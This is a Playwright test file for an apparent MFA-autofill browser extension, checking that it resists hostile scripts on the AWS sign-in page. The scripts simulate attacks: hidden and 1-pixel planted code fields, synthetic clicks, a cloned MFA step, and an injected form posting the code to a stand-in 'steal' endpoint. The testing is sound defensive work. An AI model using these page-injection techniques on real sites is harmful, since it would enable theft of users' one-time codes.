// Issue "Hardening", defects 4 and 12: what a hostile script on a real sign-in host gets by
// planting code fields. The script is played by page.evaluate (the page's own world); the user's
// steps are Playwright's trusted clicks. Every code is checked against the reference TOTP and
// the server, never against our core.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { url } from './lib/browser.mjs';
import { totpAt, base32Encode as base32 } from './lib/totp-reference.mjs';
import { startExtension, mfaStats } from './lib/extension-session.mjs';

const ACCOUNT = '135792468013';
const USER = 'mallory-target';
let session;
let secret;

const stats = () => mfaStats(session.worker);
const isCode = (v) => [totpAt(secret, Date.now() / 1000 - 30), totpAt(secret, Date.now() / 1000)].includes(v);

before(async () => {
  session = await startExtension();
  secret = base32(randomBytes(40));
  await session.server.request('POST', '/__test/mfa/devices', { account: ACCOUNT, user: USER, secret });
  const text = `otpauth://totp/Amazon%20Web%20Services:phone%40${ACCOUNT}?secret=${secret}&issuer=Amazon%20Web%20Services`;
  await session.ui('totp.add', { text, aws: { account: ACCOUNT, user: USER } });
});

after(async () => {
  await session?.close();
});

/** A new tab on the classic sign-in page, on its password step. */
async function signInPage() {
  const page = await session.browser.context.newPage();
  await page.goto(url('signin.aws.amazon.com', `/mfa/signin?layout=old&account=${ACCOUNT}&user=${USER}`));
  return page;
}

/** Plants fields (and MFA wording) the way a hostile script would. */
function plant(page, html) {
  return page.evaluate((h) => {
    const div = document.createElement('div');
    div.innerHTML = h;
    document.body.prepend(div);
  }, html);
}

/** Waits until the worker has handed out `n` more codes than `before` (its own counter). */
async function waitFilled(before, n = 1) {
  for (let i = 0; i < 100; i++) {
    if ((await stats()).filled >= before + n) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('the worker handed out no code');
}

test('off-screen and 1×1 px fields planted beside the real prompt get nothing; the real field gets the code', async () => {
  const page = await signInPage();
  await plant(page, `<p>MFA code</p>
    <input id="mfacode" data-planted="offscreen" style="position:absolute;left:-5000px;top:0;width:200px;height:30px">
    <input id="mfacode" data-planted="tiny" style="width:1px;height:1px;padding:0;border:0">`);
  const before = (await stats()).filled;
  await page.click('#signin_button');
  await waitFilled(before);
  await page.waitForFunction(() => document.querySelector('#mfa_container #mfacode').value !== '');
  const values = await page.evaluate(() => [...document.querySelectorAll('input#mfacode')]
    .map((el) => ({ planted: el.dataset.planted ?? null, value: el.value })));
  assert.deepEqual(values.filter((v) => v.planted).map((v) => v.value), ['', ''], 'planted fields stay empty');
  assert.ok(isCode(values.find((v) => !v.planted).value), 'the real field holds the current code');
  await page.close();
});

test('no code without the user\'s own step: a planted visible field on page load gets nothing, and nothing after', async () => {
  const page = await signInPage();
  const before = await stats();
  // The hostile script shows its own MFA step at once, before the user did anything.
  await plant(page, '<h2>Multi-factor authentication</h2><label>MFA code <input id="mfacode" data-planted="visible" style="width:200px;height:30px"></label>');
  // The worker answers the content script (noFlow); wait for that answer, not a fixed time.
  for (let i = 0; i < 50 && (await stats()).answered === before.answered; i++) await new Promise((r) => setTimeout(r, 100));
  assert.ok((await stats()).answered > before.answered, 'the content script asked');
  assert.equal((await stats()).filled, before.filled, 'no code was handed out');
  assert.equal(await page.inputValue('input[data-planted="visible"]'), '');
  // A script cannot make a trusted step: synthetic clicks and submits do not count.
  // (A submit through requestSubmit() even makes the browser fire a trusted submit event.)
  await page.evaluate(() => {
    document.querySelector('#signin_button').dispatchEvent(new MouseEvent('click', { bubbles: true }));
    document.querySelector('#signin_button').click();
    document.querySelector('#password').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    document.querySelector('form').requestSubmit();
  });
  const answered = (await stats()).answered;
  await plant(page, '<input id="mfacode" data-planted="second" style="width:200px;height:30px">');
  for (let i = 0; i < 50 && (await stats()).answered === answered; i++) await new Promise((r) => setTimeout(r, 100));
  assert.equal((await stats()).filled, before.filled, 'still no code');
  await page.close();
});

test('one code per step: after the fill, a field planted for a second code gets nothing', async () => {
  const page = await signInPage();
  const before = (await stats()).filled;
  await page.click('#signin_button');
  await waitFilled(before);
  const answered = (await stats()).answered;
  // Hide the real step and show a copy of it, as a script would to read a second code.
  await page.evaluate(() => {
    document.getElementById('mfa_container').hidden = true;
    const c = document.createElement('div');
    c.innerHTML = '<h2>Multi-factor authentication</h2><label for="again">MFA code</label><input id="mfaCode" name="mfaCode" style="width:200px;height:30px" data-planted="again">';
    document.body.append(c);
  });
  for (let i = 0; i < 50 && (await stats()).answered === answered; i++) await new Promise((r) => setTimeout(r, 100));
  assert.ok((await stats()).answered > answered, 'the content script asked again');
  assert.equal((await stats()).filled, before + 1, 'no second code');
  assert.equal(await page.inputValue('[data-planted="again"]'), '');
  await page.close();
});

test('a planted form whose action is another origin is filled at most, never submitted there', async () => {
  const page = await signInPage();
  // Replace the real MFA step with the script's own form posting elsewhere.
  await page.evaluate(() => {
    document.getElementById('mfa_container').remove();
    const form = document.createElement('form');
    form.id = 'steal';
    form.action = 'https://www.example.test/steal';
    form.method = 'post';
    form.hidden = true;
    form.innerHTML = '<h2>Multi-factor authentication</h2><label for="mfacode">MFA code</label>' +
      '<input id="mfacode" name="code" style="width:200px;height:30px"><button type="submit" id="submitMfa_button">Submit</button>';
    document.body.append(form);
    window.__stolen = 0;
    form.addEventListener('submit', () => { window.__stolen += 1; });
    document.getElementById('credentials-form').addEventListener('submit', () => { form.hidden = false; });
  });
  const before = (await stats()).filled;
  await page.click('#signin_button');
  await waitFilled(before);
  await page.waitForFunction(() => document.querySelector('#steal #mfacode').value !== '');
  // Auto-submit would click in the same task as the fill: by now it would have happened.
  assert.equal(await page.evaluate(() => window.__stolen), 0, 'not submitted to another origin');
  assert.ok(page.url().startsWith('https://signin.aws.amazon.com/'), page.url());
  await page.close();
});
